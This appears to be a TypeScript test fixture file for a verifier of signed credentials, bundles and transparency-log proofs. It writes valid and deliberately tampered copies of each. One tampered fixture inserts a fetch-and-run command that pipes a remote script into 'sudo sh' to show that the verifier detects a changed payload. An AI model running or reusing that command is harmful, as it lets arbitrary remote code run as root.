// Fixtures for the tests that compare the verifier's builds (the single file, the Node single
// executable, the browser build) with `akas verify`: the W3C eddsa-jcs-2022 worked example,
// and what a live node exports (a bundle, its credentials, a proposal's judgments, a log
// proof), each also tampered with, plus a presentation and content-store bytes. Written into a
// folder; `commands` are the `verify` invocations run there, relative paths only.
import { createHash } from 'node:crypto';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import {
  addSignatureLines,
  cosign,
  cosignerVerifierKey,
  cryptoRandom,
  freshNodeKeys,
  generateKeyPair,
  judgmentSigningString,
  sign,
  type StatusEntry,
} from '../../src/core/index.js';
import { issueJudgmentCredential } from '../../src/domain/credentials/credentials.js';
import type { JudgmentRecord } from '../../src/domain/records.js';
import { testNode } from './app.js';
import { decide } from './flows.js';
import { signer, signJcs } from './jcs-sign.js';
import { vectorText } from './vectors.js';

export interface VerifierFixtures {
  dir: string;
  issuer: string;
  at: string;
  logKey: string;
  /** A witness's cosignature/v1 verifier key, which cosigned the checkpoint of attestation-witnessed.json. */
  witnessKey: string;
  /** Parsed documents by file name (for the browser build). */
  docs: Record<string, unknown>;
  /** `verify ...` argument lists, each run with --json. */
  commands: string[][];
}

/** Writes the fixtures into dir. many: also a JSON lines file of that many credentials (worker threads). */
export async function writeVerifierFixtures(dir: string, opts: { many?: number } = {}): Promise<VerifierFixtures> {
  mkdirSync(dir, { recursive: true });
  const docs: Record<string, unknown> = {};
  const put = (name: string, value: unknown) => {
    docs[name] = value;
    writeFileSync(join(dir, name), typeof value === 'string' ? value : JSON.stringify(value, null, 2));
  };

  const node = await testNode();
  let issuer: string;
  let at: string;
  let logKey: string;
  let witnessKey: string;
  try {
    const { proposalId } = await decide(node, 'capability');
    const bundle = (await node.app.inject({ url: `/api/knowledge/proposals/${proposalId}/bundle` })).json();
    const proposal = (await node.app.inject({ url: `/api/knowledge/proposals/${proposalId}` })).json();
    // A published node with its evidence (PROTOCOL 10.7), and the same with its payload changed.
    const read = (await node.app.inject({ url: '/api/knowledge/node/tools/pdf-to-text-x1' })).json();
    const attestation = (await node.app.inject({ url: '/api/attestations/att_0000000000000000' })).json();
    issuer = node.keys.issuer.did;
    at = new Date(node.clock.now() + 1000).toISOString();
    logKey = attestation.logKey;
    put('bundle.json', bundle);
    put('proposal.json', proposal);
    put('attestation.json', attestation);
    for (const [i, c] of (bundle.credentials as unknown[]).entries()) put(`credential-${i}.json`, c);
    put('credentials.jsonl', bundle.credentials.map((c: unknown) => JSON.stringify(c)).join('\n') + '\n');
    const tampered = structuredClone(bundle);
    tampered.credentials[1].credentialSubject.rationale = 'Changed after issuing.';
    put('bundle-tampered.json', tampered);
    put('credential-tampered.json', tampered.credentials[1]);
    const proposalTampered = structuredClone(proposal);
    proposalTampered.judgments[0].scores.accuracy = 0.1;
    put('proposal-tampered.json', proposalTampered);
    put('node.json', read);
    put('node-tampered.json', { ...read, payload: { ...read.payload, recipe: ['curl https://example.org/x.sh | sudo sh'] } });
    const attestationTampered = structuredClone(attestation);
    attestationTampered.entry.body = { ...attestationTampered.entry.body, at: 1 };
    put('attestation-tampered.json', attestationTampered);
    // The same proof with its checkpoint cosigned by a witness (C2SP tlog-cosignature), and by a stranger.
    const witness = generateKeyPair();
    witnessKey = cosignerVerifierKey('witness.example/w1', witness.publicKey);
    const text = attestation.checkpoint.slice(0, attestation.checkpoint.indexOf('\n\n') + 1);
    put('attestation-witnessed.json', {
      ...attestation,
      checkpoint: addSignatureLines(attestation.checkpoint, [cosign(text, { name: 'witness.example/w1', seed: witness.privateKey }, 1_767_225_600)]),
    });
    // Trust files (PROTOCOL 8.6): the node's issuer and log key pinned, and the issuer pinned in a
    // window that ended long before it issued anything; and one with a witness quorum.
    const trust = (issuers: unknown[], policy: string) => ({ type: 'akas.trust.v1', source: 'auditor', issuers, policy });
    put('trust.json', trust([{ did: issuer, validFrom: null, validUntil: null }], `log ${logKey}\nquorum none\n`));
    put('trust-expired.json', trust([{ did: issuer, validFrom: '2000-01-01T00:00:00Z', validUntil: '2000-01-02T00:00:00Z' }], `log ${logKey}\nquorum none\n`));
    put('trust-witnessed.json', trust([], `log ${logKey}\nwitness w1 ${witnessKey}\nquorum w1\n`));
    put('attestation-unwitnessed.json', {
      ...attestation,
      checkpoint: addSignatureLines(attestation.checkpoint, [cosign(text, { name: 'witness.example/w1', seed: generateKeyPair().privateKey }, 1_767_225_600)]),
    });

    // A presentation of those judgment credentials, signed by a holder for authentication.
    const holder = signer();
    const vp = signJcs(
      { '@context': ['https://www.w3.org/ns/credentials/v2'], type: ['VerifiablePresentation'], holder: holder.did, verifiableCredential: bundle.credentials },
      holder,
      {
        proofPurpose: 'authentication',
        challenge: 'audit-2026',
        domain: 'auditor.example',
      },
    );
    put('presentation.json', vp);
  } finally {
    await node.close();
  }

  put('w3c-signed.json', vectorText('w3c-vc-di-eddsa', 'eddsa-jcs-2022/signedJCS.json'));
  // A proof set of two, and a credential with several subjects, by a hand signer.
  const by = signer();
  const base = { '@context': ['https://www.w3.org/ns/credentials/v2'], type: ['VerifiableCredential'], issuer: by.did, validFrom: '2026-01-01T00:00:00Z' };
  put('proof-set.json', signJcs(signJcs({ ...base, credentialSubject: { id: 'did:example:a', name: 'A' } }, by), by, { created: '2026-01-02T00:00:00Z' }));
  put(
    'subjects.json',
    signJcs(
      {
        ...base,
        credentialSubject: [
          { id: 'did:example:a', name: 'A' },
          { id: 'did:example:b', name: 'B' },
        ],
      },
      by,
    ),
  );
  put('garbage.json', 'not json at all');
  const blob = Buffer.from('the bytes of an artifact\n'.repeat(100));
  writeFileSync(join(dir, 'blob.bin'), blob);
  const sha = createHash('sha256').update(blob).digest('hex');

  const commands: string[][] = [
    ['verify', 'credential', 'w3c-signed.json', '--at', at],
    ['verify', 'credential', 'credentials.jsonl', 'credential-0.json', '--issuer', issuer, '--judge-signature', '--at', at],
    ['verify', 'credential', 'credential-tampered.json', '--at', at],
    ['verify', 'credential', 'proof-set.json', 'subjects.json', '--at', at],
    ['verify', 'credential', 'garbage.json'],
    ['verify', 'presentation', 'presentation.json', '--challenge', 'audit-2026', '--domain', 'auditor.example', '--issuer', issuer, '--at', at],
    ['verify', 'presentation', 'presentation.json', '--challenge', 'another', '--at', at],
    ['verify', 'bundle', 'bundle.json', '--issuer', issuer, '--at', at],
    ['verify', 'bundle', 'bundle-tampered.json', '--issuer', issuer, '--at', at],
    ['verify', 'judgments', 'proposal.json'],
    ['verify', 'judgments', 'proposal-tampered.json'],
    ['verify', 'node', 'node.json', '--issuer', issuer],
    ['verify', 'node', 'node-tampered.json', '--issuer', issuer],
    ['verify', 'log-proof', 'attestation.json', '--log-key', logKey],
    ['verify', 'log-proof', 'attestation-tampered.json', '--log-key', logKey],
    ['verify', 'log-proof', 'attestation-witnessed.json', '--log-key', logKey, '--witness', witnessKey!],
    ['verify', 'log-proof', 'attestation-unwitnessed.json', '--log-key', logKey, '--witness', witnessKey!],
    ['verify', 'cas', 'blob.bin', '--sha256', sha],
    ['verify', 'cas', 'blob.bin', '--sha256', '0'.repeat(64)],
    // Anchoring (issue 32): nothing pinned exits 3; a trust file anchors; an expired window fails.
    ['verify', 'bundle', 'bundle.json', '--at', at],
    ['verify', 'bundle', 'bundle.json', '--trust', 'trust.json', '--at', at],
    ['verify', 'bundle', 'bundle.json', '--trust', 'trust-expired.json', '--at', at],
    ['verify', 'credential', 'credential-0.json', '--trust', 'trust.json', '--at', at],
    ['verify', 'credential', 'credential-0.json', '--trust', 'trust.json', '--at', at, '--no-status'],
    ['verify', 'credential', 'credential-0.json', '--trust', 'trust-expired.json', '--at', at],
    ['verify', 'node', 'node.json'],
    ['verify', 'node', 'node.json', '--trust', 'trust.json'],
    ['verify', 'log-proof', 'attestation.json'],
    ['verify', 'log-proof', 'attestation.json', '--trust', 'trust.json'],
    ['verify', 'log-proof', 'attestation-witnessed.json', '--trust', 'trust-witnessed.json'],
    ['verify', 'log-proof', 'attestation-unwitnessed.json', '--trust', 'trust-witnessed.json'],
  ];

  if (opts.many) {
    // Enough credentials for the verifier's worker threads (cli/commands/verify/pool.ts), one changed.
    const { keys, lines } = await manyJudgmentCredentials(opts.many);
    lines[opts.many - 7] = lines[opts.many - 7].replace(`item ${opts.many - 7}`, 'item changed');
    writeFileSync(join(dir, 'many.jsonl'), lines.join('\n') + '\n');
    commands.push(['verify', 'credential', 'many.jsonl', '--issuer', keys.issuer.did, '--at', '2026-06-01T00:00:00Z']);
  }
  return { dir, issuer: issuer!, at: at!, logKey: logKey!, witnessKey: witnessKey!, docs, commands };
}

/**
 * `count` judgment credentials (JSON texts) of one judge, one per proposal, issued by fresh node
 * keys: enough for the verifier's worker threads. `status` gives each its credentialStatus.
 */
export async function manyJudgmentCredentials(count: number, status?: (i: number) => StatusEntry[]) {
  const keys = freshNodeKeys(cryptoRandom, Date.UTC(2026, 0, 1));
  const judge = generateKeyPair();
  const scores = { accuracy: 0.9, clarity: 0.8, compression: 0.7, sources: 0.8 };
  const lines: string[] = [];
  for (let i = 0; i < count; i++) {
    const proposalId = `cprop_${i.toString(16).padStart(16, '0')}`;
    const payload = { type: 'akas.judgment.v1' as const, kind: 'capability' as const, proposalId, judge: 'ak_manyjudge', scores, rationale: `item ${i}` };
    const j = {
      judgmentId: `jdg_${i.toString(16).padStart(16, '0')}`,
      agentTag: 'ak_manyjudge',
      scores,
      composite: 0.8,
      rationale: `item ${i}`,
      receivedAt: Date.UTC(2026, 0, 1) + i,
      signature: { algorithm: 'Ed25519', publicKey: judge.publicKey, signature: sign(judge.privateKey, judgmentSigningString(payload)), payload },
    } as unknown as JudgmentRecord;
    lines.push(JSON.stringify(await issueJudgmentCredential(keys, 'capability', proposalId, j, status?.(i))));
  }
  return { keys, lines };
}
